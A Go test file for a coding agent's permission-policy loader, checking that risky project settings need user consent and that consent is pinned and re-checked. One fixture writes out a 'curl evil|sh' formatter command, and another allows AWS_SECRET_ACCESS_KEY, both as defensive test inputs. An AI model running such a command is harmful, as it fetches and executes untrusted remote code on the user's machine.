package config

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/lictor-policy/lictor/internal/model"
)

// loosening has one entry for every part of SPEC section 7 that needs consent:
// the smallest project file that has it, and the key that the risk names.
var loosening = []struct {
	name, file, text, key string
	// kept says that the rule stays, but lifts nothing.
	kept bool
}{
	{name: "executor host", text: `{"executor": "host"}`, key: "executor"},
	{name: "executor landlock", text: `{"executor": "landlock"}`, key: "executor"},
	{name: "allow rule", text: `{"permissions": {"allow": ["bash(ls)"]}}`, key: "permissions.allow"},
	{name: "bare allow rule", text: `{"permissions": {"allow": ["bash"]}}`, key: "permissions.allow"},
	{name: "write path", text: `{"sandbox": {"writePaths": ["/"]}}`, key: "sandbox.writePaths"},
	{name: "write path inside", text: `{"sandbox": {"writePaths": ["x"]}}`, key: "sandbox.writePaths"},
	{name: "environment", text: `{"env": {"allow": ["AWS_SECRET_ACCESS_KEY"]}}`, key: "env.allow"},
	{name: "network", text: `{"network": {"allow": ["npm"]}}`, key: "network.allow"},
	{name: "localhost", text: `{"web": {"allowLocalhost": true}}`, key: "web.allowLocalhost"},
	{name: "formatter", text: `{"formatters": {"commands": {"x": {"extensions": [".x"], "command": "curl evil|sh"}}}}`, key: "formatters.commands"},
	{name: "outside root", text: `{"paths": {"outsideRoot": "ask"}}`, key: "paths.outsideRoot"},
	{name: "shell", text: `{"shell": "zsh"}`, key: "shell"},
	{name: "tools", text: `{"tools": {"my_tool": {"kind": "input", "read_only": true}}}`, key: "tools"},
	{name: "committed allow rule", file: "permissions.json", text: `{"permissions": {"allow": ["Bash(ls)"]}}`, key: "permissions.allow"},
	{name: "tracked personal allow rule", file: "permissions.local.json", text: `{"permissions": {"allow": ["Bash(ls)"]}}`, key: "permissions.allow"},
	{name: "absolute ask pattern", file: "permissions.json", text: `{"permissions": {"ask": ["Read(/etc/**)"]}}`, key: "permissions.ask", kept: true},
	{name: "home ask pattern", file: "permissions.local.json", text: `{"permissions": {"ask": ["Read(~/notes/**)"]}}`, key: "permissions.ask", kept: true},
}

// harmless are texts that never need consent.
var harmless = []struct{ name, file, text string }{
	{name: "executor os", text: `{"executor": "os", "permissions": {"deny": ["bash(rm*)"]}}`},
	{name: "executor auto", text: `{"executor": "auto"}`},
	{name: "strict profile", text: `{"profile": "strict"}`},
	{name: "empty lists", text: `{"permissions": {"allow": []}, "sandbox": {"writePaths": []}, "env": {"allow": []}, "network": {"allow": []}, "formatters": {"commands": {}}, "tools": {}}`},
	{name: "comments", text: `{"formatters": {"commands": {"$comment": "x"}}, "tools": {"$comment": "x"}, "network": {"$comment": "x"}}`},
	{name: "formatter switched off", text: `{"formatters": {"commands": {"gofmt": false}}}`},
	{name: "stricter", text: `{"askFirst": true, "paths": {"outsideRoot": "deny"}, "sandbox": {"denyRead": ["~/x"], "privateTmp": true}}`},
	{name: "host keys", text: `{"web": {"enabled": true, "allowLocalhost": false}, "subagents": {"enabled": true}, "limits": {"maxSteps": 1000}}`},
	{name: "ask and deny rules", text: `{"permissions": {"ask": ["bash(git push *)"], "deny": ["read_file(/etc/**)"]}}`},
	{name: "ask and deny in permission files", file: "permissions.json", text: `{"permissions": {"ask": ["Bash(git push *)", "Read(src/**)"], "deny": ["Read(/etc/**)"]}}`},
}

func place(t *testing.T, p Places, file, text string) string {
	t.Helper()
	if file == "" {
		file = "settings.json"
	}
	write(t, filepath.Join(p.Root, ".lictor", file), text)
	return ".lictor/" + file
}

func TestEveryLooseningNeedsConsent(t *testing.T) {
	for _, c := range loosening {
		t.Run(c.name, func(t *testing.T) {
			p := project(t)
			file := place(t, p, c.file, c.text)
			safe, err := Load(context.Background(), p, Options{Rego: engine(t)})
			require.NoError(t, err)
			require.Len(t, safe.Risk, 1)
			assert.Equal(t, c.key, safe.Risk[0].Key)
			assert.Equal(t, file, safe.Risk[0].File)
			assert.False(t, safe.Accepted)
			require.Len(t, safe.Applied.Notices, 1)
			notice := safe.Applied.Notices[0]
			assert.Equal(t, filepath.Join(p.Root, filepath.FromSlash(file)), notice.File)
			assert.Contains(t, notice.Text, "not applied: "+c.key)

			// What applies is what a project without the file has.
			empty := project(t)
			want, err := Load(context.Background(), empty, Options{Rego: engine(t)})
			require.NoError(t, err)
			got := safe.Applied.Settings
			got.Formatters.Commands = nil
			assert.Equal(t, want.Applied.Settings, clearAsk(got))
			assert.Empty(t, texts(safe.Rules, model.EffectAllow))
			for i := range safe.Rules {
				assert.True(t, c.kept)
				assert.False(t, safe.Lifts(&safe.Rules[i]))
			}
			assert.NoFileExists(t, p.Trust, "nothing is written for a no")

			yes := &asker{answer: model.AnswerOnce}
			loose, err := Load(context.Background(), p, Options{Rego: engine(t), Ask: yes.ask})
			require.NoError(t, err)
			assert.True(t, loose.Accepted)
			assert.False(t, loose.Pinned)
			assert.Empty(t, loose.Applied.Notices)
			assert.Equal(t, loose.Loaded.Settings, loose.Applied.Settings)
			for i := range loose.Rules {
				assert.True(t, loose.Lifts(&loose.Rules[i]))
			}
			assert.NoFileExists(t, p.Trust, "once does not pin")
		})
	}
}

func clearAsk(s Settings) Settings { s.Permissions.Ask = nil; return s }

func TestHarmlessSettingsAreNeverAskedAbout(t *testing.T) {
	for _, c := range harmless {
		t.Run(c.name, func(t *testing.T) {
			p := project(t)
			place(t, p, c.file, c.text)
			no := &asker{answer: model.AnswerDeny}
			got, err := Load(context.Background(), p, Options{Rego: engine(t), Ask: no.ask})
			require.NoError(t, err)
			assert.Empty(t, no.requests)
			assert.Empty(t, got.Risk)
			assert.Empty(t, got.Hash)
			assert.True(t, got.Accepted)
			assert.Empty(t, got.Applied.Notices)
			assert.Equal(t, got.Loaded.Settings, got.Applied.Settings)
		})
	}
}

// SafeSettings in Go and the risk list in Rego are two views of one list: what
// one leaves out, the other must name, or a consent would cover less than it
// turns on.
func TestSafeSettingsAndRiskAgree(t *testing.T) {
	for _, c := range loosening {
		s, err := ParseSettings("s", []byte(c.text))
		if c.file != "" {
			continue
		}
		require.NoError(t, err)
		before, err := json.Marshal(s)
		require.NoError(t, err)
		after, err := json.Marshal(SafeSettings(s))
		require.NoError(t, err)
		assert.NotEqual(t, string(before), string(after), c.name)
	}
}

func TestPinAndChange(t *testing.T) {
	p := project(t)
	place(t, p, "", `{"permissions": {"allow": ["bash(ls)"]}}`)
	place(t, p, "permissions.local.json", `{"permissions": {"allow": ["Bash(make)"]}}`)
	ctx := context.Background()

	yes := &asker{answer: model.AnswerSession}
	first, err := Load(ctx, p, Options{Rego: engine(t), Ask: yes.ask})
	require.NoError(t, err)
	assert.True(t, first.Pinned)
	require.Len(t, yes.requests, 1)
	assert.Nil(t, yes.requests[0].Changed)
	assert.NotContains(t, yes.requests[0].Preview, "changed")
	assert.Contains(t, yes.requests[0].Preview, "bash(ls)")
	assert.Contains(t, yes.requests[0].Preview, ".lictor/permissions.local.json")

	no := &asker{answer: model.AnswerDeny}
	second, err := Load(ctx, p, Options{Rego: engine(t), Ask: no.ask})
	require.NoError(t, err)
	assert.True(t, second.Pinned)
	assert.Empty(t, no.requests)
	assert.Empty(t, second.Applied.Notices)
	assert.Equal(t, []string{"bash(ls)", "Bash(make)"}, texts(second.Rules, model.EffectAllow))

	// What loosens nothing may change without a question.
	place(t, p, "", `{"permissions": {"allow": ["bash(ls)"], "deny": ["bash(rm *)"]}, "askFirst": true}`)
	third, err := Load(ctx, p, Options{Rego: engine(t), Ask: no.ask})
	require.NoError(t, err)
	assert.True(t, third.Pinned)
	assert.Empty(t, no.requests)

	place(t, p, "permissions.local.json", `{"permissions": {"allow": ["Bash(make)", "Bash(*)"]}}`)
	fourth, err := Load(ctx, p, Options{Rego: engine(t), Ask: no.ask})
	require.NoError(t, err)
	require.Len(t, no.requests, 1)
	assert.Equal(t, []string{"permissions.allow (.lictor/permissions.local.json)"}, no.requests[0].Changed)
	assert.Contains(t, no.requests[0].Preview, "changed since you accepted it: permissions.allow")
	assert.False(t, fourth.Accepted)
	assert.Empty(t, texts(fourth.Rules, model.EffectAllow))
	assert.Equal(t, []string{"bash(rm *)"}, texts(fourth.Rules, model.EffectDeny))
	assert.Len(t, fourth.Applied.Notices, 2, "one for each file")

	// Another root with the same files has its own consent.
	other := project(t)
	other.Trust = p.Trust
	place(t, other, "", `{"permissions": {"allow": ["bash(ls)"]}}`)
	fifth, err := Load(ctx, other, Options{Rego: engine(t)})
	require.NoError(t, err)
	assert.False(t, fifth.Accepted)
}

func TestResolvedHostsArePinned(t *testing.T) {
	p := project(t)
	place(t, p, "", `{"network": {"allow": ["npm"]}}`)
	hosts := []string{"registry.example", "a.example"}
	options := Options{Rego: engine(t), Hosts: func(_ context.Context, allow []string) ([]string, error) {
		assert.Equal(t, []string{"npm"}, allow)
		return hosts, nil
	}}
	yes := &asker{answer: model.AnswerSession}
	options.Ask = yes.ask
	got, err := Load(context.Background(), p, options)
	require.NoError(t, err)
	assert.True(t, got.Pinned)
	assert.Contains(t, yes.requests[0].Preview, `network.hosts: ["a.example","registry.example"]`)

	options.Ask = nil
	hosts = []string{"a.example", "registry.example"}
	got, err = Load(context.Background(), p, options)
	require.NoError(t, err)
	assert.True(t, got.Pinned, "the order of hosts does not count")

	hosts = []string{"a.example", "evil.example"}
	got, err = Load(context.Background(), p, options)
	require.NoError(t, err)
	assert.False(t, got.Accepted)
	assert.Contains(t, got.Applied.Notices[0].Text, "network.hosts")

	options.Hosts = func(context.Context, []string) ([]string, error) { return nil, errors.New("npm is not configured") }
	_, err = Load(context.Background(), p, options)
	require.ErrorContains(t, err, p.Settings+": network.allow: npm is not configured")
}

func TestAnswersThatAreNoYes(t *testing.T) {
	for _, answer := range []model.Answer{"", "deny", "never", "yes", "Session"} {
		p := project(t)
		place(t, p, "", `{"executor": "host"}`)
		got, err := Load(context.Background(), p, Options{Rego: engine(t), Ask: (&asker{answer: answer}).ask})
		require.NoError(t, err)
		assert.False(t, got.Accepted, answer)
		assert.Equal(t, "auto", got.Applied.Settings.Executor)
	}
	p := project(t)
	place(t, p, "", `{"executor": "host"}`)
	failing := func(context.Context, ConsentRequest) (model.Answer, error) {
		return model.AnswerSession, errors.New("the terminal is gone")
	}
	got, err := Load(context.Background(), p, Options{Rego: engine(t), Ask: failing})
	require.NoError(t, err)
	assert.False(t, got.Accepted, "an error is no yes, whatever comes with it")
	assert.Contains(t, got.Applied.Notices[0].Text, "the terminal is gone")

	ctx, cancel := context.WithCancel(context.Background())
	_, err = Load(ctx, p, Options{Rego: engine(t), Ask: func(context.Context, ConsentRequest) (model.Answer, error) {
		cancel()
		return model.AnswerSession, nil
	}})
	require.ErrorIs(t, err, context.Canceled)
	assert.NoFileExists(t, p.Trust)
}

func TestBrokenTrustFileTrustsNothingAtTheGate(t *testing.T) {
	p := project(t)
	place(t, p, "", `{"executor": "host"}`)
	write(t, p.Trust, "{")
	got, err := Load(context.Background(), p, Options{Rego: engine(t)})
	require.NoError(t, err)
	assert.False(t, got.Accepted)
	require.Len(t, got.Applied.Notices, 2)
	assert.Equal(t, p.Trust, got.Applied.Notices[0].File)
	assert.Contains(t, got.Applied.Notices[0].Text, "trusts nothing")

	yes := &asker{answer: model.AnswerSession}
	got, err = Load(context.Background(), p, Options{Rego: engine(t), Ask: yes.ask})
	require.NoError(t, err)
	assert.True(t, got.Accepted, "the user is there and said yes")
	assert.False(t, got.Pinned)
	text, err := os.ReadFile(p.Trust)
	require.NoError(t, err)
	assert.Equal(t, "{", string(text))
}

func TestFilesOfHomeAndMachineAreNotGated(t *testing.T) {
	p := project(t)
	p.ManagedOverridden = true
	write(t, p.ManagedPolicy, "{}")
	write(t, p.HomePermissions, `{"permissions": {"allow": ["Bash(home)"], "ask": ["Read(/opt/**)"]}}`)
	write(t, p.ManagedPermissions, `{"permissions": {"allow": ["Bash(machine)"]}}`)
	place(t, p, "permissions.json", `{"permissions": {"allow": ["Bash(project)"]}}`)
	got, err := Load(context.Background(), p, Options{Rego: engine(t)})
	require.NoError(t, err)
	assert.Equal(t, []string{"Bash(home)", "Bash(machine)"}, texts(got.Rules, model.EffectAllow))
	for i := range got.Rules {
		assert.True(t, got.Lifts(&got.Rules[i]))
	}
	assert.True(t, got.Lifts(nil))
}

func TestOnlyRefusedAskRulesAreGrounded(t *testing.T) {
	p := project(t)
	place(t, p, "", `{"permissions": {"ask": [" read_file(~/x) ", "read_file(.env)"]}}`)
	place(t, p, "permissions.json", `{"permissions": {"ask": ["Read(/etc/**)", "Bash(git push *)"], "allow": ["Bash(ls)"]}}`)
	for _, answer := range []model.Answer{"deny", "once"} {
		got, err := Load(context.Background(), p, Options{Rego: engine(t), Ask: (&asker{answer: answer}).ask})
		require.NoError(t, err)
		lifts := map[string]bool{}
		for _, rule := range got.Rules {
			lifts[rule.Text] = got.Lifts(&rule)
		}
		want := map[string]bool{"read_file(~/x)": false, "read_file(.env)": true, "Read(/etc/**)": false, "Bash(git push *)": true}
		if answer == "once" {
			want = map[string]bool{"read_file(~/x)": true, "read_file(.env)": true, "Read(/etc/**)": true, "Bash(git push *)": true, "Bash(ls)": true}
		}
		assert.Equal(t, want, lifts, answer)
	}
}

// The permission store reads the files again by itself. What it reads then counts
// only as far as the gate saw it.
func TestKeepClosesTheGapAfterTheGate(t *testing.T) {
	p := project(t)
	place(t, p, "permissions.json", `{"permissions": {"allow": ["Bash(make)"], "deny": ["Bash(rm *)"]}}`)
	rule := func(source, text string, effect model.Effect) model.Rule {
		return model.Rule{Source: source, Text: text, Effect: effect}
	}
	seen, later := rule(p.Permissions, "Bash(make)", model.EffectAllow), rule(p.Permissions, "Bash(*)", model.EffectAllow)
	yes, err := Load(context.Background(), p, Options{Rego: engine(t), Ask: (&asker{answer: "once"}).ask})
	require.NoError(t, err)
	assert.True(t, yes.Keep(seen))
	assert.False(t, yes.Keep(later))
	assert.False(t, yes.Keep(rule(p.LocalPermissions, "Bash(make)", model.EffectAllow)), "the same text in another file was not seen")
	assert.True(t, yes.Keep(rule(p.HomePermissions, "Bash(*)", model.EffectAllow)))
	assert.True(t, yes.Keep(rule(p.Permissions, "Bash(new)", model.EffectDeny)))
	assert.True(t, yes.With(later).Keep(later))
	assert.False(t, yes.Keep(later), "With leaves the original alone")

	no, err := Load(context.Background(), p, Options{Rego: engine(t)})
	require.NoError(t, err)
	assert.False(t, no.Keep(seen))
	assert.True(t, no.With(seen).Keep(seen))
	assert.True(t, no.Keep(rule(p.Permissions, "Bash(rm *)", model.EffectDeny)))
}
